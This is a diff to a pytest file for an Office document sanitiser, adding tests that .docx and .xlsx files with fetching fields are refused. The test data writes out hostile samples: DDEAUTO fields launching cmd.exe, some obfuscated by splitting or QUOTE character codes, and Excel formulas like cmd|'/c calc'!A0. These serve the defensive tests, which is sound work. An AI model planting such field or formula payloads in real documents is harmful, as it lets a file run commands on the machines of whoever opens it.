@@ -384,7 +384,7 @@ def test_printers_settings_of_a_workbook_are_no_other_file():
 )
 def test_document_that_draws_on_what_lies_outside_is_refused(kind, target):
     sent = docx(**{"word/_rels/document.xml.rels": relations((kind, target, "External"))})
-    refused(sent, ".docx", "draws on another file outside it")
+    refused(sent, ".docx", "draws on something outside it")
 
 
 def test_links_that_a_person_presses_stay():
@@ -396,7 +396,76 @@ def test_links_that_a_person_presses_stay():
 
 def test_workbook_that_draws_on_another_is_refused():
     sent = xlsx(**{"xl/_rels/workbook.xml.rels": relations(("externalLink", "externalLinks/externalLink1.xml"))})
-    refused(sent, ".xlsx", "draws on another file outside it")
+    refused(sent, ".xlsx", "draws on something outside it")
+
+
+def in_words(*runs):
+    """A document whose one paragraph holds these runs: text of a field's code, or what begins and ends a field."""
+    marks = {"{": '<w:fldChar w:fldCharType="begin"/>', "}": '<w:fldChar w:fldCharType="end"/>'}
+    said = "".join(f"<w:r>{marks.get(run, f'<w:instrText>{run}</w:instrText>')}</w:r>" for run in runs)
+    return in_document(f"<w:p>{said}</w:p>")
+
+
+def in_document(body):
+    space = (
+        'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml"'
+    )
+    return docx(**{"word/document.xml": f"<w:document {space}><w:body>{body}</w:body></w:document>"})
+
+
+@pytest.mark.parametrize(
+    "sent",
+    [
+        in_words("{", ' DDEAUTO c:\\windows\\cmd.exe "/k calc"', "}"),
+        in_words("{", "DD", "EAU", "TO c:\\windows\\cmd.exe", "}"),
+        in_words("{", "{", " QUOTE 68 68 69 ", "}", " c:\\windows\\cmd.exe", "}"),
+        in_words("{", " DD", "{", " QUOTE 69 ", "}", " c:\\windows\\cmd.exe", "}"),
+        in_words("{", ' IF 1 = 1 "', "{", 'includepicture "https://example.org/seen.png"', "}", '"', "}"),
+        in_words("{", 'INCLUDETEXT "\\\\server\\share\\list.docx"', "}"),
+        in_words("{", 'HYPERLINK "file://server/share/list.xlsx"', "}"),
+        in_words("{", "HYPERLINK javascript:alert(1)", "}"),
+        in_document('<w:p><w:fldSimple w:instr=" LINK Excel.Sheet.12 list.xlsx "/></w:p>'),
+        in_document('<w:p><w:pict><v:shape><v:imagedata src="https://example.org/seen.png"/></v:shape></w:pict></w:p>'),
+        docx(**{"word/_rels/document.xml.rels": relations(("aFChunk", "more.xml")), "word/more.xml": "<a/>"}),
+    ],
+    ids=[
+        "program", "program in pieces", "program spelled by a field", "program half spelled", "picture in a field",
+        "text of another file", "link to a share", "script", "simple field", "drawn picture", "document inside",
+    ],
+)  # fmt: skip
+def test_document_whose_fields_fetch_something_is_refused(sent):
+    refused(sent, ".docx", "draws on something outside it")
+
+
+def test_fields_that_fetch_nothing_stay():
+    """Page numbers, contents, reckoning, links that a person presses."""
+    runs = ["{", " PAGE ", "}", "{", "=", "{", "PAGE", "}", "+1", "}", "{", ' TOC \\o "1-3" \\h ', "}"]
+    runs += ["{", ' HYPERLINK "https://example.org/" ', "}", "{", ' HYPERLINK \\l "_Toc1" ', "}", "{", " DATE ", "}"]
+    assert clean(in_words(*runs), ".docx")
+    assert clean(in_document("<w:p><w:r><w:t>We LINK the DATABASE</w:t></w:r></w:p>"), ".docx")
+
+
+def in_a_cell(formula):
+    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    row = f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'
+    return xlsx(**{"xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{row}</sheetData></worksheet>'})
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ["cmd|'/c calc'!A0", '_xlfn.WEBSERVICE("https://example.org/"&amp;A1)', '_xlfn.IMAGE("https://example.org/a.png")'],
+)
+def test_workbook_whose_formulas_fetch_something_is_refused(formula):
+    refused(in_a_cell(formula), ".xlsx", "draws on something outside it")
+
+
+def test_workbook_on_a_database_is_refused():
+    sent = xlsx(**{"xl/_rels/workbook.xml.rels": relations(("connections", "connections.xml"))})
+    refused(sent, ".xlsx", "draws on something outside it")
+
+
+def test_formulas_that_reckon_stay():
+    assert clean(in_a_cell('IF(A2="a|b",SUM(B1:B9),VLOOKUP(A1,Image!A1:B2,2))'), ".xlsx")
 
 
 def test_document_with_a_password_is_refused_and_told_what_to_do():
